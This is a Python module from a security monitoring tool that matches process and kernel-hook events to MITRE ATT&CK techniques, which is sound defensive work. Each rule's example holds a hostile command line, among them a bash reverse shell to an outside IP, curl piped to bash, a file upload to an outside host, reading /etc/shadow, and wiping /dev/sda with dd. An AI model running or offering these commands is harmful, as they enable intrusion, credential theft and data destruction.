"""The table of techniques: what an event is like, each rule with its ATT&CK id, a sentence and an example."""

from __future__ import annotations

import re
from dataclasses import dataclass

from tetratui.core.events.kinds import Kind
from tetratui.core.lineage.programs import DOWNLOADERS, IN_SHARED_FOLDER, SHELLS, name_of

_EXEC = frozenset({Kind.EXEC})
_HOOKS = frozenset({Kind.KPROBE, Kind.TRACEPOINT, Kind.LSM, Kind.UPROBE})
SERVICES = frozenset(
    {"nginx", "apache", "httpd", "lighttpd", "caddy", "php-fpm", "java", "tomcat", "node", "uwsgi", "gunicorn"}
    | {"mysqld", "mariadbd", "postgres", "redis-server", "mongod", "memcached", "named", "dnsmasq", "smbd"}
    | {"vsftpd", "proftpd", "exim", "master", "sendmail"}
)
"""Programs that serve a network and start no shell in everyday work."""
_CREDENTIALS = r"/etc/(?:g?shadow|sudoers)\b|/\.ssh/id_|\bid_(?:rsa|ed25519|ecdsa)\b|/\.aws/credentials|/\.kube/config"
_PERSISTENCE = (
    r"/etc/(?:cron(?:tab|\.\w+/)|profile\.d/|rc\.local|ld\.so\.preload|systemd/system/|init\.d/|sudoers\.d/)"
    r"|/var/spool/cron/|/authorized_keys|/\.(?:bashrc|profile|bash_profile|config/autostart)\b"
)


@dataclass(frozen=True, slots=True)
class EventTexts:
    """The texts of an event that rules look at; empty where it lacks one."""

    kind: Kind
    binary: str = ""
    arguments: str = ""
    parent: str = ""
    function: str = ""
    file: str = ""
    daddr: str = ""

    @property
    def name(self) -> str:
        """The name of the program, without folder and version."""
        return name_of(self.binary)


@dataclass(frozen=True, slots=True)
class TechniqueRule:
    """Recognises events that are like a technique. All conditions that are given must hold."""

    id: str
    """The ATT&CK id."""
    sentence: str
    example: EventTexts
    """An event on which it must hold."""
    kinds: frozenset[Kind] = _EXEC
    names: frozenset[str] = frozenset()
    """Names of the program."""
    binary: re.Pattern[str] | None = None
    arguments: re.Pattern[str] | None = None
    parents: frozenset[str] = frozenset()
    """Names of the parent's program."""
    function: re.Pattern[str] | None = None
    file: re.Pattern[str] | None = None

    def holds(self, event: EventTexts) -> bool:
        """Return whether an event is like this technique."""
        return (
            event.kind in self.kinds
            and (not self.names or event.name in self.names)
            and (not self.parents or name_of(event.parent) in self.parents)
            and (self.binary is None or self.binary.search(event.binary) is not None)
            and (self.arguments is None or self.arguments.search(event.arguments) is not None)
            and (self.function is None or self.function.search(event.function) is not None)
            and (self.file is None or self.file.search(event.file) is not None)
        )


def _run(
    technique: str,
    sentence: str,
    example: str,
    names: str = "",
    arguments: str = "",
    parents: str = "",
    parent: str = "",
) -> TechniqueRule:
    """Make a rule over command lines; `example` is one, `parent` the path of its parent."""
    binary, _, rest = example.partition(" ")
    return TechniqueRule(
        technique,
        sentence,
        EventTexts(Kind.EXEC, binary, rest, parent),
        names=frozenset(map(name_of, names.split())),
        arguments=re.compile(arguments) if arguments else None,
        parents=frozenset(map(name_of, parents.split())),
    )


_SHELLS = " ".join(sorted(SHELLS))
_READERS = "cat head tail less more grep cp ln tar base64 xxd od strings awk gawk sed dd scp rsync find tee vi vim nano"
RULES: tuple[TechniqueRule, ...] = (
    TechniqueRule(
        "T1190",
        "a network service started a shell or a tool of reconnaissance",
        EventTexts(Kind.EXEC, "/bin/sh", "-c id", "/usr/sbin/nginx"),
        names=SHELLS | DOWNLOADERS | {"id", "whoami", "uname", "python", "perl"},
        parents=SERVICES,
    ),
    TechniqueRule(
        "T1036.005",
        "a program was started from a folder of all users, or a hidden one",
        EventTexts(Kind.EXEC, "/home/a/.x/sshd"),
        binary=re.compile(rf"(?!/(?:dev/fd|proc)/)(?:{IN_SHARED_FOLDER.pattern})"),
    ),
    TechniqueRule(
        "T1620",
        "a program was started that is no file: from memory, or deleted before",
        EventTexts(Kind.EXEC, "/dev/fd/3"),
        binary=re.compile(r"^/dev/fd/|^/proc/(?:self|\d+)/fd/|memfd:| \(deleted\)$"),
    ),
    _run(
        "T1059.004",
        "a shell runs what was just downloaded",
        '/bin/bash -c "curl -s http://x/y | bash"',
        _SHELLS,
        r"\b(?:curl|wget)\b[^;&]*\|\s*(?:\S*/)?(?:ba|da|z|k)?sh\b",
    ),
    _run(
        "T1059.004",
        "a shell is connected to a socket",
        '/bin/bash -c "bash -i >& /dev/tcp/198.51.100.66/4445 0>&1"',
        "",
        r"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)(?:\.\w+)?\s.*-[a-z]*e\s|socket.*(?:dup2|pty|/bin/sh)",
    ),
    _run(
        "T1095",
        "netcat runs a program, or listens",
        "/usr/bin/nc -l 127.0.0.1 31337",
        "nc ncat netcat nc.traditional nc.openbsd",
        r"(?:^|\s)-\w*[elu]|(?:^|\s)--exec",
    ),
    _run(
        "T1105",
        "a file was downloaded into a folder of all users",
        "/usr/bin/curl -s -o /tmp/.u http://203.0.113.66/s",
        "curl wget",
        r"(?:-o|-O|--output\S*)[ =]?(?:/tmp|/var/tmp|/dev/shm)/",
    ),
    _run(
        "T1105",
        "an interpreter downloads",
        '/usr/bin/python3 -c "import urllib.request;urllib.request.urlopen(1)"',
        "python perl ruby php",
        r"urllib\.request|urlopen|http\.client|requests\.get|LWP|Net::HTTP|file_get_contents\(.?http",
    ),
    _run(
        "T1140",
        "encoded text is decoded",
        "/usr/bin/base64 -d",
        "base64 base32 openssl xxd",
        r"(?:^|\s)(?:-d\b|--decode|-D\b|-r\b)|\benc\b.*\s-d\b",
    ),
    _run("T1003.008", "a file of passwords is read", "/bin/cat /etc/shadow", _READERS, r"/etc/(?:g?shadow|passwd)\b"),
    _run(
        "T1552.004",
        "private keys are looked for",
        "/usr/bin/find / -name id_rsa -o -name *.pem",
        _READERS,
        r"\bid_(?:rsa|ed25519|ecdsa)\b|\*?\.pem\b|\.ssh/id_",
    ),
    _run(
        "T1552.001",
        "passwords are looked for in files",
        "/bin/grep -rniE password|secret /var/www",
        "grep egrep rg ack find",
        r"(?i)passw(?:or)?d|secret|api_?key",
    ),
    _run(
        "T1552.003",
        "a shell's history is read",
        "/bin/cat /root/.bash_history",
        "cat grep less head tail cp",
        r"\.\w*_history\b",
    ),
    _run(
        "T1552.005",
        "a cloud's metadata service is asked",
        "/usr/bin/curl http://169.254.169.254/latest",
        "curl wget",
        r"169\.254\.169\.254|metadata\.google",
    ),
    _run(
        "T1548.001",
        "a program gets the right to run as its owner",
        "/bin/chmod 4755 /tmp/rootbash",
        "chmod setcap",
        r"(?:^|\s)(?:[24-7][0-7]{3}|[ug]*\+\w*s)\b|cap_set|cap_sys|cap_dac",
    ),
    _run("T1548.001", "a shell keeps the rights of its owner", "/opt/rootbash -p -c id", "", r"^(?:\S+ )*-p (?:-c|$)"),
    _run(
        "T1548.003",
        "sudo is asked what it allows, or used for another user",
        "/usr/bin/sudo -u www-data id",
        "sudo",
        r"(?:^|\s)(?:-l|-u)\b",
    ),
    _run(
        "T1222.002",
        "a file in a folder of all users is made executable",
        "/bin/chmod +x /tmp/.u",
        "chmod",
        r"(?:\+\w*x|[0-7]*[1357][0-7]*)\s.*(?:/tmp|/var/tmp|/dev/shm)/",
    ),
    _run("T1222.002", "a file is made unchangeable", "/usr/bin/chattr +i /etc/cron.d/x", "chattr", r"[+]i\b"),
    _run("T1053.003", "a crontab is replaced or removed", "/usr/bin/crontab -", "crontab", r"^(?:-$|-r|/)|\s-$|^\S+$"),
    _run("T1053.002", "a job is put off with at", "/usr/bin/at now + 1 minute", "at batch"),
    _run(
        "T1543.002",
        "a service is made or enabled",
        "/bin/systemctl enable --now x.service",
        "systemctl",
        r"^(?:enable|link|edit)\b",
    ),
    _run(
        "T1562.001",
        "a security tool is stopped",
        "/bin/systemctl stop tetragon",
        "systemctl service kill pkill killall",
        r"(?i)(?:stop|disable|mask|kill)?.*\b(?:tetragon|wazuh|auditd|falco|osquery|apparmor|crowdstrike|falcon)",
    ),
    _run(
        "T1562.004",
        "firewall rules are removed",
        "/usr/sbin/iptables -F",
        "iptables ip6tables nft ufw",
        r"(?:^|\s)(?:-F|--flush|flush|disable|-X)\b",
    ),
    _run("T1562.012", "audit rules are removed", "/usr/sbin/auditctl -e 0", "auditctl", r"-e 0|-D\b"),
    _run("T1136.001", "an account is made", "/usr/sbin/useradd -m evil", "useradd adduser"),
    _run(
        "T1098", "passwords or groups of accounts are changed", "/usr/sbin/chpasswd", "chpasswd usermod passwd gpasswd"
    ),
    TechniqueRule(
        "T1098.004",
        "a list of keys for logins is written",
        EventTexts(Kind.EXEC, "/bin/bash", '-c "echo k >> /home/a/.ssh/authorized_keys"'),
        arguments=re.compile(r"(?:>|tee|cp|mv|install).*authorized_keys"),
    ),
    _run(
        "T1547.006",
        "a kernel module is loaded or removed",
        "/sbin/insmod /tmp/x.ko",
        "insmod modprobe rmmod kmod",
        r"^(?!-n|--show|-l)",
    ),
    _run(
        "T1574.006",
        "a library is loaded into every program",
        "/usr/bin/tee /etc/ld.so.preload",
        "",
        r"ld\.so\.preload|LD_PRELOAD=",
    ),
    _run(
        "T1546.004",
        "a file that shells run at login is written",
        "/usr/bin/tee -a /etc/profile.d/x.sh",
        "tee cp mv install",
        r"/etc/profile|\.bashrc|\.profile|\.zshrc",
    ),
    _run("T1611", "other namespaces are made or entered", "/usr/bin/nsenter -t 1 -m", "unshare nsenter"),
    _run("T1055.008", "another process is traced", "/usr/bin/strace -f /bin/true", "strace ltrace gdb"),
    _run("T1003.007", "memory of another process is written to a file", "/usr/bin/gcore 812", "gcore procdump"),
    _run("T1068", "a program known for its holes is run without arguments", "/usr/bin/pkexec", "pkexec", r"^$"),
    _run(
        "T1070.003",
        "a shell's history is removed",
        "/bin/rm -f /root/.bash_history",
        "rm shred truncate unlink",
        r"\.\w*_history\b",
    ),
    _run(
        "T1070.002", "logs are removed", "/usr/bin/shred -u /var/log/auth.log", "rm shred truncate unlink", r"/var/log/"
    ),
    _run(
        "T1070.006",
        "a file gets the times of another",
        "/usr/bin/touch -r /bin/ls /tmp/x",
        "touch",
        r"(?:^|\s)-\w*[rtd]\b",
    ),
    _run("T1033", "it is asked who this is", "/usr/bin/whoami", "id whoami w who"),
    _run("T1082", "the system is asked what it is", "/bin/uname -a", "uname lsb_release hostnamectl", r"-a|^$"),
    _run("T1087.001", "the accounts are listed", "/bin/cat /etc/passwd", "cat getent less", r"\bpasswd\b"),
    _run("T1057", "the processes are listed", "/bin/ps auxww", "ps pgrep pstree"),
    _run("T1049", "the connections are listed", "/usr/bin/ss -tunap", "ss netstat lsof"),
    _run(
        "T1083",
        "files with the rights of their owner are looked for",
        "/usr/bin/find / -perm -4000",
        "find",
        r"-perm\s+[-/]?(?:[ug]\+s|[2467]000)",
    ),
    _run("T1018", "other hosts are looked for", "/usr/bin/nmap -sV 10.0.0.0/24", "nmap masscan zmap arp-scan fping"),
    _run(
        "T1110", "passwords are guessed", "/usr/bin/hydra -l root ssh://10.0.0.12", "hydra medusa john hashcat patator"
    ),
    _run("T1040", "traffic is recorded", "/usr/bin/tcpdump -i any -w /tmp/c", "tcpdump tshark dumpcap", r"-w\b"),
    _run(
        "T1572",
        "a tunnel is opened",
        "/usr/bin/ssh -fNR 2222:localhost:22 u@198.51.100.66",
        "ssh socat chisel",
        r"(?:^|\s)-\w*[RDLw]|LISTEN",
    ),
    _run(
        "T1041",
        "a file is sent out",
        "/usr/bin/curl -F f=@/tmp/h.tgz http://198.51.100.66/u",
        "curl wget",
        r"(?:-F|-T|--upload-file|--data-binary|--post-file)[ =]?\S*[@/]",
    ),
    _run("T1567.002", "files are copied to a cloud", "/usr/bin/rclone copy /home remote:h", "rclone s3cmd gsutil"),
    _run("T1496", "a miner runs", "/opt/xmrig -o pool.example.net:3333", "xmrig minerd cpuminer"),
    _run(
        "T1485",
        "a disk is overwritten",
        "/bin/dd if=/dev/zero of=/dev/sda",
        "dd mkfs wipefs",
        r"of=/dev/(?:sd|vd|nvme)",
    ),
    _run("T1569.002", "a program is put off as a service", "/usr/bin/systemd-run --on-active=60 /tmp/a", "systemd-run"),
    _run(
        "T1053.003",
        "a file is put where cron runs it",
        "/bin/cp /tmp/job /etc/cron.d/0sync",
        "cp mv tee install ln",
        r"/etc/cron|/var/spool/cron",
    ),
    _run(
        "T1548.003",
        "a rule of sudo is written",
        "/usr/bin/tee /etc/sudoers.d/90-a",
        "cp mv tee install visudo",
        r"/etc/sudoers",
    ),
    _run(
        "T1548.001",
        "a tool starts a shell that keeps the rights of its owner",
        "/usr/bin/find . -exec /bin/sh -p ;",
        "find vim awk gawk env",
        r"\bsh -p\b",
    ),
    _run(
        "T1620",
        "an interpreter makes a program in memory and runs it",
        '/usr/bin/python3 -c "os.memfd_create(1);os.execve(f)"',
        "python perl ruby",
        r"memfd_create|os\.unlink.*exec|syscall\(319",
    ),
    _run(
        "T1548.001",
        "an interpreter takes another user's rights",
        '/usr/bin/python3 -c "import os;os.setuid(0)"',
        "python perl ruby",
        r"set(?:re|res)?uid\(",
    ),
    _run(
        "T1048",
        "an interpreter sends to a socket",
        '/usr/bin/python3 -c "s.sendto(b,(1,2))"',
        "python perl ruby",
        r"sendto\(|SOCK_DGRAM",
    ),
    _run(
        "T1564.001",
        "a file is put into a hidden folder of all users",
        "/bin/cp /bin/sleep /tmp/.hid/kworker",
        "cp mv install ln mkdir",
        r"(?:/tmp|/var/tmp|/dev/shm)/\.\w",
    ),
    _run(
        "T1560.001",
        "files are packed into a folder of all users",
        "/bin/tar czf /tmp/h.tgz /home",
        "tar zip 7z gzip",
        r"(?:^|\s)-?\w*[cr]\w*\s+(?:-f\s+)?(?:/tmp|/var/tmp|/dev/shm)/",
    ),
    _run(
        "T1570",
        "a file is copied to another host",
        "/usr/bin/scp /tmp/a root@10.0.0.12:/tmp/",
        "scp rsync sftp",
        r"/(?:tmp|shm)/.*@\S+:",
    ),
    _run(
        "T1005",
        "whole databases are written out",
        "/usr/bin/mysqldump --all-databases",
        "mysqldump pg_dumpall mongodump",
        r"--all-databases|^$|-A\b",
    ),
    _run(
        "T1486",
        "a file is encrypted",
        "/usr/bin/openssl enc -aes-256-cbc -in a -out a.enc",
        "openssl gpg",
        r"\benc\b.*-out|--symmetric|(?:^|\s)-c\s",
    ),
    _run("T1529", "the host is shut down", "/usr/sbin/reboot -f", "reboot poweroff halt shutdown"),
    _run(
        "T1071.004",
        "a text record is asked of a name server",
        "/usr/bin/dig TXT 64.c2.example.net",
        "dig nslookup host",
        r"(?i)\btxt\b",
    ),
    _run(
        "T1564",
        "a folder is covered by another file system",
        "/bin/mount -t tmpfs none /mnt",
        "mount",
        r"tmpfs|--bind|hidepid",
    ),
    TechniqueRule(
        "T1003.008",
        "a hook saw a file of credentials being used",
        EventTexts(Kind.KPROBE, "/bin/cat", function="security_file_permission", file="/etc/shadow"),
        kinds=_HOOKS,
        file=re.compile(_CREDENTIALS),
    ),
    TechniqueRule(
        "T1547",
        "a hook saw a place being used from which programs are started again",
        EventTexts(Kind.KPROBE, "/usr/bin/crontab", function="security_file_permission", file="/var/spool/cron/x"),
        kinds=_HOOKS,
        file=re.compile(_PERSISTENCE),
    ),
    TechniqueRule(
        "T1071",
        "a program from a folder of all users connects",
        EventTexts(Kind.KPROBE, "/home/a/.x/u", function="tcp_connect", daddr="203.0.113.66"),
        kinds=_HOOKS,
        binary=IN_SHARED_FOLDER,
        function=re.compile(r"connect|sendmsg"),
    ),
    TechniqueRule(
        "T1059.004",
        "a shell itself connects",
        EventTexts(Kind.KPROBE, "/usr/bin/bash", function="tcp_connect", daddr="203.0.113.66"),
        kinds=_HOOKS,
        names=SHELLS,
        function=re.compile(r"tcp_connect|socket_connect"),
    ),
)
"""All rules; an event may be like several."""
EVERYDAY = frozenset({"T1033", "T1082", "T1087.001", "T1057", "T1049"})
"""Techniques that administrators and scripts use all day: alone they are no reason to look."""


def find_techniques(event: EventTexts) -> tuple[TechniqueRule, ...]:
    """Return the rules that an event is like, in the order of the table."""
    return tuple(rule for rule in _rules_for(event) if rule.holds(event))


def _rules_for(event: EventTexts) -> tuple[TechniqueRule, ...]:
    return _BY_NAME.get(event.name, _OF_ANY_NAME)


_OF_ANY_NAME = tuple(rule for rule in RULES if not rule.names)
_BY_NAME = {
    name: tuple(rule for rule in RULES if not rule.names or name in rule.names)
    for name in {name for rule in RULES for name in rule.names}
}
